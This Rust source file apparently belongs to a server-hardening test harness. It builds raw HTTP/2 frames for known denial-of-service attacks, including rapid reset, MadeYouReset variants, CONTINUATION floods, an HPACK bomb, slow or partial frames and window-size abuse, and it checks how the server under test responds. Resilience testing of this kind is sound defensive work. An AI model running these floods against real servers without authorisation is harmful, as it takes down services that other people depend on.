//! Attacks over HTTP/2, most of them frame by frame (RFC 9113, section 6).

use std::io::Read;
use std::net::TcpStream;

use bytes::Bytes;
use harness::{Http2, times};

use super::{Attack, BODY, LITTLE, STREAMS, Target, drip, flood, is_open, send, until_ended};

pub(super) const ATTACKS: &[Attack] = &[
    Attack { name: "half a preface", cost: LITTLE, run: half_a_preface },
    Attack { name: "a preface alone", cost: LITTLE, run: a_preface_alone },
    Attack { name: "half a frame", cost: LITTLE, run: half_a_frame },
    Attack { name: "a frame of a byte now and then", cost: LITTLE, run: a_slow_frame },
    Attack { name: "malformed frames", cost: LITTLE, run: malformed_frames },
    Attack { name: "half bodies over HTTP/2", cost: BODY, run: half_bodies },
    Attack { name: "a body of a byte now and then over HTTP/2", cost: LITTLE, run: a_slow_body },
    Attack { name: "window 0", cost: STREAMS, run: no_window },
    Attack { name: "window 1", cost: STREAMS, run: a_window_of_one },
    Attack { name: "a window of one byte, again and again", cost: STREAMS, run: byte_by_byte },
    Attack { name: "large windows, and TCP window 0", cost: STREAMS, run: takes_nothing },
    Attack { name: "rapid reset", cost: LITTLE, run: rapid_reset },
    Attack { name: "resets, one by one", cost: LITTLE, run: resets_one_by_one },
    Attack { name: "MadeYouReset: WINDOW_UPDATE of 0", cost: LITTLE, run: made_you_reset_by_nothing },
    Attack { name: "MadeYouReset: a window beyond the largest", cost: LITTLE, run: made_you_reset_by_overflow },
    Attack { name: "MadeYouReset: DATA behind the end", cost: LITTLE, run: made_you_reset_by_late_data },
    Attack { name: "MadeYouReset: a stream that depends on itself", cost: LITTLE, run: made_you_reset_by_itself },
    Attack { name: "MadeYouReset: a body of another length", cost: LITTLE, run: made_you_reset_by_length },
    Attack { name: "CONTINUATION with fields, without an end", cost: LITTLE, run: continuations },
    Attack { name: "empty CONTINUATION, without an end", cost: LITTLE, run: empty_continuations },
    Attack { name: "HPACK bomb", cost: LITTLE, run: hpack_bomb },
    Attack { name: "PING and SETTINGS", cost: LITTLE, run: control_frames },
    Attack { name: "SETTINGS that change windows and tables", cost: STREAMS, run: changing_settings },
    Attack { name: "WINDOW_UPDATE", cost: LITTLE, run: window_updates },
    Attack { name: "PRIORITY", cost: LITTLE, run: priorities },
    Attack { name: "empty DATA", cost: LITTLE, run: empty_data },
    Attack { name: "frames of an unknown type", cost: LITTLE, run: unknown_frames },
];

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

// Types of frames.
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PUSH_PROMISE: u8 = 5;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

// Flags of frames.
const ACK: u8 = 1;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const WHOLE: u8 = END_STREAM | END_HEADERS;

// Settings.
const HEADER_TABLE_SIZE: u16 = 1;
const INITIAL_WINDOW_SIZE: u16 = 4;

/// First stream of the attacks. On a connection that was handed over, stream 1 is over.
const FIRST: u32 = 3;
/// Largest window, and largest step of one.
const WINDOW_MAX: u32 = (1 << 31) - 1;
/// The code of a stream that is wanted no more.
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// Streams of an attack that makes the worker reset them; it may reset 1,024 before the connection ends.
const RESETS: [usize; 2] = [1100, 100_000];

/// A frame.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&length[1..], &[kind, flags][..], &stream.to_be_bytes()[..], payload].concat()
}

/// The payload of SETTINGS with one setting.
fn setting(name: u16, value: u32) -> Vec<u8> {
    [&name.to_be_bytes()[..], &value.to_be_bytes()[..]].concat()
}

/// The fields of a request: the method by its place in HPACK's static table, :scheme http, :path, and :authority x (RFC 7541, appendix A).
fn fields(method: u8, path: &str) -> Vec<u8> {
    let length = u8::try_from(path.len()).unwrap();
    [&[method, 0x86, 0x04, length][..], path.as_bytes(), &[0x01, 0x01, b'x'][..]].concat()
}

fn get(path: &str) -> Vec<u8> {
    fields(0x82, path)
}

fn post(path: &str) -> Vec<u8> {
    fields(0x83, path)
}

/// A connection with these settings, whose preface is sent.
fn open(target: &Target, settings: &[u8]) -> TcpStream {
    let settings = frame(SETTINGS, 0, 0, settings);
    match target.http2() {
        Some(mut stream) => {
            let _ = send(&mut stream, &settings);
            stream
        }
        None => beginning(target, &[PREFACE, &settings].concat()),
    }
}

/// A new connection that begins with these bytes.
fn beginning(target: &Target, bytes: &[u8]) -> TcpStream {
    let mut stream = target.connect_http2();
    let _ = send(&mut stream, bytes);
    stream
}

/// Kind and flags of the worker's next frame. `None`: the connection has ended.
fn next_frame(stream: &mut TcpStream) -> Option<(u8, u8)> {
    let mut head = [0; 9];
    let mut whole = |bytes: &mut [u8]| match stream.read_exact(bytes) {
        Ok(()) => true,
        Err(error) => {
            assert!(!is_open(&error), "the worker says nothing more, and keeps the connection");
            false
        }
    };
    let has_head = whole(&mut head);
    let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
    (has_head && whole(&mut vec![0; length as usize])).then_some((head[3], head[4]))
}

/// Goes on until a request on stream 1 is answered, and nothing is owed to either side.
pub(super) fn asked(mut stream: TcpStream) -> TcpStream {
    let request = frame(HEADERS, WHOLE, 1, &get("/cached"));
    assert!(send(&mut stream, &[PREFACE, &frame(SETTINGS, 0, 0, &[]), &request].concat()));
    loop {
        match next_frame(&mut stream).expect("an answer") {
            (SETTINGS, 0) => assert!(send(&mut stream, &frame(SETTINGS, ACK, 0, &[]))),
            (HEADERS | DATA, flags) if flags & END_STREAM != 0 => return stream,
            _ => {}
        }
    }
}

/// Numbers of a client's first streams.
fn numbers(count: usize) -> impl Iterator<Item = u32> {
    (FIRST..).step_by(2).take(count)
}

/// Sends what `each` makes of each stream's number, for so many streams.
fn stream_by_stream(mut stream: TcpStream, count: usize, each: impl Fn(u32) -> Vec<u8>) -> Option<TcpStream> {
    let numbers: Vec<u32> = numbers(count).collect();
    let mut hundreds = numbers.chunks(100).map(|hundred| hundred.iter().flat_map(|id| each(*id)).collect::<Vec<u8>>());
    let _ = hundreds.all(|frames| send(&mut stream, &frames));
    until_ended(stream)
}

fn half_a_preface(target: &Target) -> Option<TcpStream> {
    until_ended(beginning(target, &PREFACE[..12]))
}

fn a_preface_alone(target: &Target) -> Option<TcpStream> {
    until_ended(beginning(target, PREFACE))
}

/// HEADERS of 1000 bytes, of which 10 come.
fn begun_frame(target: &Target) -> TcpStream {
    let mut stream = open(target, &[]);
    let frame = frame(HEADERS, WHOLE, FIRST, &[0; 1000]);
    let _ = send(&mut stream, &frame[..19]);
    stream
}

fn half_a_frame(target: &Target) -> Option<TcpStream> {
    until_ended(begun_frame(target))
}

fn a_slow_frame(target: &Target) -> Option<TcpStream> {
    drip(begun_frame(target), &[0])
}

fn malformed_frames(target: &Target) -> Option<TcpStream> {
    let overflow = WINDOW_MAX.to_be_bytes();
    let mistakes = [
        frame(DATA, 0, 0, b"x"),
        frame(DATA, 0, 1, b"x"),
        frame(HEADERS, WHOLE, 0, &get("/")),
        frame(HEADERS, WHOLE, 2, &get("/")),
        // An entry that HPACK's tables do not have.
        frame(HEADERS, WHOLE, 1, &[0xfe]),
        frame(RST_STREAM, 0, 1, &[0; 4]),
        frame(SETTINGS, 0, 0, &[0; 5]),
        frame(SETTINGS, 0, 1, &[]),
        frame(SETTINGS, 0, 0, &setting(INITIAL_WINDOW_SIZE, u32::MAX)),
        frame(PUSH_PROMISE, END_HEADERS, 1, &[0, 0, 0, 2]),
        frame(PING, 0, 0, b"1234567"),
        frame(WINDOW_UPDATE, 0, 0, &[0; 4]),
        [frame(WINDOW_UPDATE, 0, 0, &overflow), frame(WINDOW_UPDATE, 0, 0, &overflow)].concat(),
        frame(CONTINUATION, END_HEADERS, 1, &get("/")),
        // 16 MiB are announced.
        vec![0xff, 0xff, 0xff, DATA, 0, 0, 0, 0, 1],
    ];
    let all: Vec<TcpStream> = mistakes
        .iter()
        .map(|mistake| {
            let mut stream = open(target, &[]);
            let _ = send(&mut stream, mistake);
            stream
        })
        .collect();
    all.into_iter().find_map(until_ended)
}

fn half_bodies(target: &Target) -> Option<TcpStream> {
    let mut http2 = Http2::over(target.connect_http2(), 65_535);
    let request = || http::Request::post("http://x/gather").body(()).unwrap();
    let mut asked: Vec<_> = (0..10).map(|_| http2.ask(request(), false)).collect();
    let statuses = http2.runtime.block_on(async {
        let mut statuses = Vec::new();
        for (_, body) in &mut asked {
            body.send_data(Bytes::from(vec![b'x'; 60_000]), false).unwrap();
        }
        for (answer, _body) in asked {
            statuses.push(answer.await.unwrap().status().as_u16());
        }
        statuses
    });
    assert_eq!(statuses, [408; 10], "bodies without progress");
    None
}

fn a_slow_body(target: &Target) -> Option<TcpStream> {
    let mut stream = open(target, &[]);
    let _ = send(&mut stream, &frame(HEADERS, END_HEADERS, FIRST, &post("/gather")));
    drip(stream, &frame(DATA, 0, FIRST, b"x"))
}

/// 100 responses of which nothing can be sent, or a byte of each.
fn streams(target: &Target, window: u32) -> Option<TcpStream> {
    let mut http2 = Http2::over(target.connect_http2(), window);
    let asked: Vec<_> = (0..100).map(|_| http2.get("/static/large")).collect();
    assert_eq!(http2.ends_of(asked).len(), 100, "every stream is ended");
    None
}

fn no_window(target: &Target) -> Option<TcpStream> {
    streams(target, 0)
}

fn a_window_of_one(target: &Target) -> Option<TcpStream> {
    streams(target, 1)
}

/// Asks for the large file on 100 streams, with windows of this size.
fn downloads(target: &Target, window: u32) -> TcpStream {
    let mut stream = open(target, &setting(INITIAL_WINDOW_SIZE, window));
    let requests = numbers(100).flat_map(|id| frame(HEADERS, WHOLE, id, &get("/static/large")));
    let _ = send(&mut stream, &requests.collect::<Vec<u8>>());
    stream
}

fn byte_by_byte(target: &Target) -> Option<TcpStream> {
    let one_each = numbers(100).flat_map(|id| frame(WINDOW_UPDATE, 0, id, &[0, 0, 0, 1]));
    flood(downloads(target, 0), &one_each.collect::<Vec<u8>>(), times(20, 1000))
}

fn takes_nothing(target: &Target) -> Option<TcpStream> {
    let mut stream = downloads(target, WINDOW_MAX);
    let _ = send(&mut stream, &frame(WINDOW_UPDATE, 0, 0, &(WINDOW_MAX - 65_535).to_be_bytes()));
    Some(stream)
}

/// Requests that are followed by this, stream by stream.
fn resets(target: &Target, then: impl Fn(u32) -> Vec<u8>) -> Option<TcpStream> {
    let request = get("/");
    stream_by_stream(open(target, &[]), times(RESETS[0], RESETS[1]), |id| {
        [frame(HEADERS, WHOLE, id, &request), then(id)].concat()
    })
}

fn rapid_reset(target: &Target) -> Option<TcpStream> {
    resets(target, |id| frame(RST_STREAM, 0, id, &CANCEL))
}

/// Each is seen before the next comes. So hyper counts none of them, and the connection could be parked between two.
fn resets_one_by_one(target: &Target) -> Option<TcpStream> {
    let (mut stream, request) = (open(target, &[]), get("/"));
    for id in numbers(times(300, 20_000)) {
        let reset = [frame(HEADERS, WHOLE, id, &request), frame(RST_STREAM, 0, id, &CANCEL)].concat();
        let asks = frame(PING, 0, 0, b"12345678");
        if !send(&mut stream, &[reset, asks].concat()) || !is_answered(&mut stream) {
            return None;
        }
    }
    until_ended(stream)
}

/// Reads on to the answer to a PING.
fn is_answered(stream: &mut TcpStream) -> bool {
    loop {
        match next_frame(stream) {
            Some((PING, flags)) if flags & ACK != 0 => return true,
            Some(_) => {}
            None => return false,
        }
    }
}

fn made_you_reset_by_nothing(target: &Target) -> Option<TcpStream> {
    resets(target, |id| frame(WINDOW_UPDATE, 0, id, &[0; 4]))
}

fn made_you_reset_by_overflow(target: &Target) -> Option<TcpStream> {
    resets(target, |id| frame(WINDOW_UPDATE, 0, id, &WINDOW_MAX.to_be_bytes()))
}

fn made_you_reset_by_late_data(target: &Target) -> Option<TcpStream> {
    resets(target, |id| frame(DATA, 0, id, b"x"))
}

fn made_you_reset_by_itself(target: &Target) -> Option<TcpStream> {
    resets(target, |id| frame(PRIORITY, 0, id, &[&id.to_be_bytes()[..], &[16]].concat()))
}

fn made_you_reset_by_length(target: &Target) -> Option<TcpStream> {
    // content-length: 1
    let request = [&post("/gather")[..], &[0x0f, 0x0d, 0x01, b'1']].concat();
    stream_by_stream(open(target, &[]), times(RESETS[0], RESETS[1]), |id| {
        [frame(HEADERS, END_HEADERS, id, &request), frame(DATA, END_STREAM, id, b"xx")].concat()
    })
}

/// Begins a head that does not end, and goes on with this.
fn endless_head(target: &Target, piece: &[u8], rounds: usize) -> Option<TcpStream> {
    let mut stream = open(target, &[]);
    let _ = send(&mut stream, &frame(HEADERS, END_STREAM, FIRST, &get("/")));
    flood(stream, piece, rounds)
}

fn continuations(target: &Target) -> Option<TcpStream> {
    // A field that no table keeps: a, and 100 bytes.
    let field = [&[0x00, 0x01, b'a', 100][..], &[b'b'; 100]].concat();
    endless_head(target, &frame(CONTINUATION, 0, FIRST, &field.repeat(150)), times(50, 5000))
}

fn empty_continuations(target: &Target) -> Option<TcpStream> {
    endless_head(target, &frame(CONTINUATION, 0, FIRST, &[]).repeat(100), times(50, 10_000))
}

fn hpack_bomb(target: &Target) -> Option<TcpStream> {
    // An entry of 4000 bytes in the dynamic table, by a field of that length, and 10,000 times this entry: 40 MB in 14 KB.
    let entry = [&[0x40, 0x01, b'a', 0x7f, 0xa1, 0x1e][..], &[b'b'; 4000]].concat();
    let bomb = [get("/"), entry, vec![0xbe; 10_000]].concat();
    stream_by_stream(open(target, &[]), times(20, 1000), |id| frame(HEADERS, WHOLE, id, &bomb))
}

fn control_frames(target: &Target) -> Option<TcpStream> {
    // Empty SETTINGS, which have to be acknowledged, and PINGs, which have to be answered.
    let hundred = [frame(SETTINGS, 0, 0, b""), frame(PING, 0, 0, b"12345678")].concat().repeat(100);
    flood(open(target, &[]), &hundred, times(20, 5000))
}

fn changing_settings(target: &Target) -> Option<TcpStream> {
    let change = |window, table| {
        frame(SETTINGS, 0, 0, &[setting(INITIAL_WINDOW_SIZE, window), setting(HEADER_TABLE_SIZE, table)].concat())
    };
    // Each change is one for each of 100 streams.
    flood(downloads(target, 0), &[change(65_535, 0), change(0, 4096)].concat().repeat(10), times(20, 1000))
}

fn window_updates(target: &Target) -> Option<TcpStream> {
    flood(open(target, &[]), &frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]).repeat(100), times(20, 10_000))
}

fn priorities(target: &Target) -> Option<TcpStream> {
    let hundred = numbers(100).flat_map(|id| frame(PRIORITY, 0, id, &[0, 0, 0, 0, 16]));
    flood(open(target, &[]), &hundred.collect::<Vec<u8>>(), times(20, 10_000))
}

fn empty_data(target: &Target) -> Option<TcpStream> {
    let mut stream = open(target, &[]);
    let _ = send(&mut stream, &frame(HEADERS, END_HEADERS, FIRST, &post("/gather")));
    flood(stream, &frame(DATA, 0, FIRST, b"").repeat(100), times(20, 10_000))
}

fn unknown_frames(target: &Target) -> Option<TcpStream> {
    flood(open(target, &[]), &frame(0x42, 0xff, 0, &[0; 64]).repeat(100), times(20, 2000))
}
